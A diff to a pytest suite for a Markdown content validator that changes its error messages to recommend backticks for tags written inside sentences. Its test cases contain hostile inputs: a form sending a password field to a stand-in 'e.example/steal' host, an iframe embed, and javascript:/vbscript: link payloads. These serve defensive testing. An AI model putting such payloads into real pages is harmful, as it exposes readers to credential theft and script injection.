@@ -31,6 +31,16 @@ JS = SCHEME.format("javascript")
 AS_CODE = "remove it (to show it as code, put it between ``` fences)"
 SCRIPT = f"<script> is not allowed: it runs code in readers' browsers; {AS_CODE}"
 EMBEDS = "is not allowed: it embeds another page or program in the site; " + AS_CODE
+
+
+def as_text(tag: str) -> str:
+    """The fix offered for a tag inside a sentence: backticks (a fence is for a block)."""
+    return (
+        f"remove it (to show the tag as text, put it in backticks: `<{tag}>`, or write &lt;{tag}>)"
+    )
+
+
+EMBEDS_IN_SENTENCE = EMBEDS.replace(AS_CODE, as_text("iframe"))
 HANDLER = "event handlers run code in readers' browsers; remove it"
 NOT_LISTED = (
     "is not among the elements members' HTML may use (see 'HTML you may write' in CONTRIBUTING.md)"
@@ -56,7 +66,7 @@ HOSTILE = [
     ),
     pytest.param(
         {A + "questions/first.md": QUESTION + 'Look: <iframe src="https://e.example"></iframe>\n'},
-        [f"{A}questions/first.md:7: error: <iframe> {EMBEDS}"],
+        [f"{A}questions/first.md:7: error: <iframe> {EMBEDS_IN_SENTENCE}"],
         id="iframe in an answer",
     ),
     pytest.param(
@@ -85,8 +95,10 @@ HOSTILE = [
             '<form action="https://e.example/steal"><input name=pw></form>\n'
         },
         [
-            f"{C}amara.md:4: error: <form> is not allowed: it collects what readers type; {AS_CODE}",
-            f"{C}amara.md:4: error: <input> is not allowed: it collects what readers type; {AS_CODE}",
+            f"{C}amara.md:4: error: <form> is not allowed: it collects what readers type; "
+            + as_text("form"),
+            f"{C}amara.md:4: error: <input> is not allowed: it collects what readers type; "
+            + as_text("input"),
         ],
         id="form in a profile",
     ),
@@ -140,7 +152,8 @@ HOSTILE = [
     pytest.param(
         piece("[click](<javascript:alert(1)>)\n"),
         [
-            f"{PIECE}:6: error: <javascript:alert(1)> is not allowed: it {NOT_LISTED}; {AS_CODE}",
+            f"{PIECE}:6: error: <javascript:alert(1)> is not allowed: it {NOT_LISTED}; "
+            + as_text("javascript:alert(1)"),
             f"{PIECE}:6: error: link 'javascript:alert(1)' {JS}",
         ],
         id="angle-bracket destination",
@@ -170,7 +183,8 @@ HOSTILE = [
             "[a][r] [b][s] [c][t]\n\n+ [r]: <javascript:x>\n1. [s]:\n   vbscript:y\n> - [t]: javascript:z\n"
         ),
         [
-            f"{PIECE}:8: error: <javascript:x> is not allowed: it {NOT_LISTED}; {AS_CODE}",
+            f"{PIECE}:8: error: <javascript:x> is not allowed: it {NOT_LISTED}; "
+            + as_text("javascript:x"),
             f"{PIECE}:8: error: link definition 'javascript:x' {JS}",
             f"{PIECE}:10: error: link definition 'vbscript:y' {SCHEME.format('vbscript')}",
             f"{PIECE}:11: error: link definition 'javascript:z' {JS}",
